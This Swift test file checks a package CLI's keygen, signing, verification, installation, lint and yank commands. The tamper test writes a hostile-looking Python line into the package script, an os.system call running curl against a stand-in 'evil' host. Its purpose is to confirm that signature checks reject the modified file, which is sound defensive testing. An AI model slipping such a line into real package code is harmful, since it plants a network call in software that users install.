import Foundation
import Testing
import TestSupport

@testable import JSON
@testable import ToolPackage

/// The package commands, run through the built `omega-exec` like a user would.
@Suite(.serialized) struct CLIPackageTests {
    typealias S = PackageTestSupport

    /// The built `omega-exec` (TestSupport's locator).
    static let binary: String? = OmegaCLI.binary

    struct Run {
        var status: Int32
        var stdout: String
        var stderr: String
    }

    func run(_ arguments: [String], home: String) throws -> Run {
        let binary = try #require(Self.binary, "omega-exec not built")
        let result = try HostProcess.run([binary] + arguments, environment: ["OMEGA_HOME": home], timeout: 60)
        return Run(status: result.status, stdout: result.stdout, stderr: result.stderr)
    }

    @Test func keygenPackVerifyInstallLintRoundTrip() throws {
        let dir = S.temporaryDirectory()
        let home = dir + "/home"
        let key = dir + "/keys/dev.key"
        let keygen = try run(["keygen", "-o", key, "--name", "dev"], home: home)
        #expect(keygen.status == 0, "\(keygen.stderr)")
        #expect(FileManager.default.fileExists(atPath: key + ".pub"))
        let secret = try JSONParser().parse(try String(contentsOfFile: key, encoding: .utf8))["privateKey"]!
            .stringValue!
        #expect(!keygen.stdout.contains(secret) && !keygen.stderr.contains(secret))
        #expect(try run(["keygen", "-o", key], home: home).status == 1)  // never overwrites

        let archive = dir + "/echo.tar.gz"
        let pack = try run(["pack", S.fixture, "-o", archive, "--sign", key], home: home)
        #expect(pack.status == 0, "\(pack.stderr)")
        #expect(pack.stdout.contains("packed demo.echo@1.0.0"))

        // Not trusted yet.
        let untrusted = try run(["verify", archive], home: home)
        #expect(untrusted.status == 1)
        #expect(untrusted.stderr.contains("PACKAGE_UNKNOWN_KEY"))

        let publicKey = try JSONParser().parse(try String(contentsOfFile: key + ".pub", encoding: .utf8))
        try FileManager.default.createDirectory(atPath: home, withIntermediateDirectories: true)
        S.write(JSONValue.array([publicKey]).jsonText, to: home + "/trusted-keys.json")
        let verify = try run(["verify", archive], home: home)
        #expect(verify.status == 0, "\(verify.stderr)")
        #expect(verify.stdout.contains("signed by"))

        let install = try run(["install", archive], home: home)
        #expect(install.status == 0, "\(install.stderr)")
        #expect(FileManager.default.fileExists(atPath: home + "/packages/demo.echo/1.0.0/main.py"))
        let again = try run(["install", archive], home: home)
        #expect(again.status == 1 && again.stderr.contains("PACKAGE_ALREADY_INSTALLED"))
        #expect(try run(["install", "--force", archive], home: home).status == 0)

        let lint = try run(["lint", "--json", archive], home: home)
        #expect(lint.status == 0)
        let report = try JSONParser().parse(lint.stdout.trimmingCharacters(in: .whitespacesAndNewlines))
        #expect(report["valid"] == true)
        #expect(report["id"] == "demo.echo")

        let yank = try run(["yank", "demo.echo@1.0.0", "--reason", "broken"], home: home)
        #expect(yank.status == 0, "\(yank.stderr)")
        let yanked = try run(["install", "--force", archive], home: home)
        #expect(yanked.status == 1 && yanked.stderr.contains("PACKAGE_YANKED"))
    }

    @Test func aTamperedPackageFailsVerifyWithANonZeroExit() throws {
        let dir = S.temporaryDirectory()
        let home = dir + "/home"
        #expect(try run(["keygen", "-o", dir + "/k"], home: home).status == 0)
        #expect(try run(["pack", S.fixture, "-o", dir + "/p.tar.gz", "--sign", dir + "/k"], home: home).status == 0)
        let trusted = "[" + (try String(contentsOfFile: dir + "/k.pub", encoding: .utf8)) + "]"
        S.write(trusted, to: dir + "/trusted.json")

        // Unpack, change the script, repack with the stale signature.
        try PackageExtractor().extract(archive: dir + "/p.tar.gz", into: dir + "/x")
        S.write("import os; os.system('curl evil')\n", to: dir + "/x/main.py")
        let writer = try ArchiveWriter(path: dir + "/tampered.tar.gz")
        for name in ["main.py", "omega.json", "omega.sig.json"] {
            try writer.addFile(name, contents: Array(try Data(contentsOf: URL(fileURLWithPath: dir + "/x/" + name))))
        }
        try writer.close()
        let result = try run(["verify", dir + "/tampered.tar.gz", "--trusted-keys", dir + "/trusted.json"], home: home)
        #expect(result.status == 1)
        #expect(
            result.stderr.contains("PACKAGE_TAMPERED_FILE") && result.stderr.contains("main.py"), "\(result.stderr)")
        let install = try run(
            ["install", dir + "/tampered.tar.gz", "--trusted-keys", dir + "/trusted.json"], home: home)
        #expect(install.status == 1)
        #expect(!FileManager.default.fileExists(atPath: home + "/packages/demo.echo"))
    }

    @Test func lintExitsNonZeroOnErrorsAndPackRefusesToPack() throws {
        let dir = S.temporaryDirectory()
        let folder = S.copyFixture(into: dir)
        try FileManager.default.removeItem(atPath: folder + "/main.py")
        let lint = try run(["lint", folder], home: dir + "/home")
        #expect(lint.status == 1)
        #expect(lint.stdout.contains("SCRIPT_MISSING"))
        let pack = try run(["pack", folder, "-o", dir + "/p.tar.gz"], home: dir + "/home")
        #expect(pack.status == 1)
        #expect(!FileManager.default.fileExists(atPath: dir + "/p.tar.gz"))
        let missing = try run(["lint", dir + "/nope"], home: dir + "/home")
        #expect(missing.status == 2)
    }
}
